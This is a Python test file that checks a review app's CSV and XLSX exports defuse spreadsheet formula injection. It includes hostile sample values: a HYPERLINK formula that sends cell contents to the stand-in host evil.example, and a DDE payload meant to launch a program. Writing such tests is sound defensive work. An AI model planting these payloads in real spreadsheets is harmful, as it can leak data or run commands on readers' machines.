"""Formula injection: no crawled or reviewer text reaches a spreadsheet as a formula.

Checked on the files themselves (the CSV parsed, the xlsx opened with openpyxl and its sheet
XML read) and on the downloads of the running app.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from review.decisions import record
from review.exporters import get_exporter
from review.exporters.cells import formula_like, neutralise
from review.exporters.columns import COLUMNS, NAMES
from review.exporters.delimited import datapackage
from review.exporters.rows import export_rows
from tests.review.conftest import reconcile
from tests.review.test_app import login

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE = [HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1"]
TEXT_COLUMNS = [c.name for c in COLUMNS if c.type != "integer"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # so that removing one quote gives back exactly what was crawled
        ("'quoted' title", "'quoted' title"),
        ("Foro Penal", "Foro Penal"),
        ("", ""),
        (" =1", " =1"),
    ],
)
def test_the_rule(text, written):
    assert neutralise(text) == written
    recovered = written[1:] if formula_like(written[1:]) and written.startswith("'") else written
    assert recovered == text


def hostile_row(text: str) -> dict:
    """An export row whose every text column holds ``text``, with negative numbers."""
    row: dict = {name: text for name in TEXT_COLUMNS}
    row.update(claim_id=7, value=-3, machine_value=-4, total_claim_id=None)
    return row


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_neutralises_every_text_column_and_keeps_numbers(text):
    body = get_exporter("csv").render([hostile_row(text)])
    (parsed,) = list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))
    for name in TEXT_COLUMNS:
        assert parsed[name] == "'" + text, name
    assert (parsed["claim_id"], parsed["value"], parsed["machine_value"]) == ("7", "-3", "-4")


def test_datapackage_says_how_text_cells_are_written(tmp_path: Path):
    package = json.loads(datapackage(tmp_path / "claims.csv", [])["datapackage.json"])
    description = package["resources"][0]["description"]
    assert "single quote" in description and "=, +, -, @" in description


def xlsx_cells(body: bytes, tmp_path: Path):
    path = tmp_path / "claims.xlsx"
    path.write_bytes(body)
    sheet = load_workbook(path)["claims"]
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)], xml


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_every_text_cell_as_a_string(text, tmp_path):
    (row,), xml = xlsx_cells(get_exporter("xlsx").render([hostile_row(text)]), tmp_path)
    assert "<f>" not in xml  # no formula anywhere in the sheet
    for name in TEXT_COLUMNS:
        cell = row[name]
        assert (cell.data_type, cell.value) == ("s", text), name
        assert cell.quotePrefix, name  # Excel keeps it text even when the cell is edited
    assert (row["value"].data_type, row["value"].value) == ("n", -3)
    assert (row["claim_id"].value, row["machine_value"].value) == (7, -4)


def test_xlsx_survives_control_characters_xml_cannot_carry(tmp_path):
    (row,), _ = xlsx_cells(get_exporter("xlsx").render([hostile_row("a\x0bb\x00c")]), tmp_path)
    assert row["title"].value == "a\ufffdb\ufffdc"


@pytest.fixture
def hostile_claims(build, session):
    """Crawled and reviewer text of every kind that could start a formula."""
    source = build.source("foro-penal", "+Foro Penal")
    text = "@SUM(1) dice: hay 301 presos políticos."
    document = build.document(source, text, title=HYPERLINK)
    claim = build.claim(document, 301, quote="@SUM(1)", attributed_to="+cmd|' /C calc'!A0")
    record(
        session,
        claim,
        "correct",
        "=reviewer",
        {"subject": "-presos+", "place": "=Caracas", "as_of": "2024-07"},
        note="=note",
    )
    reconcile(session)
    session.commit()
    return claim


def test_rows_from_the_database_are_neutralised_in_both_formats(session, hostile_claims, tmp_path):
    rows = export_rows(session)
    parsed = next(csv.DictReader(io.StringIO(get_exporter("csv").render(rows).decode())))
    (cells,), xml = xlsx_cells(get_exporter("xlsx").render(rows), tmp_path)
    expected = {
        "title": HYPERLINK,
        "publisher": "+Foro Penal",
        "quote": "@SUM(1)",
        "attributed_to": "+cmd|' /C calc'!A0",
        "subject": "-presos+",
        "place": "=Caracas",
        "reviewer": "=reviewer",
    }
    for name, text in expected.items():
        assert parsed[name] == "'" + text, name
        assert (cells[name].data_type, cells[name].value) == ("s", text), name
    assert parsed["value"] == "301" and cells["value"].value == 301
    assert "<f>" not in xml


def test_downloads_from_the_running_app_are_neutralised(live_server, hostile_claims, tmp_path):
    with httpx.Client(base_url=live_server, timeout=30) as client:
        login(client, "ana")
        csv_body = client.get("/export/claims.csv")
        xlsx_body = client.get("/export/claims.xlsx")
    assert csv_body.status_code == xlsx_body.status_code == 200
    parsed = next(csv.DictReader(io.StringIO(csv_body.text)))
    assert parsed["title"] == "'" + HYPERLINK and parsed["reviewer"] == "'=reviewer"
    (cells,), xml = xlsx_cells(xlsx_body.content, tmp_path)
    assert (cells["title"].data_type, cells["title"].value) == ("s", HYPERLINK)
    assert "<f>" not in xml
    assert list(parsed) == list(NAMES)
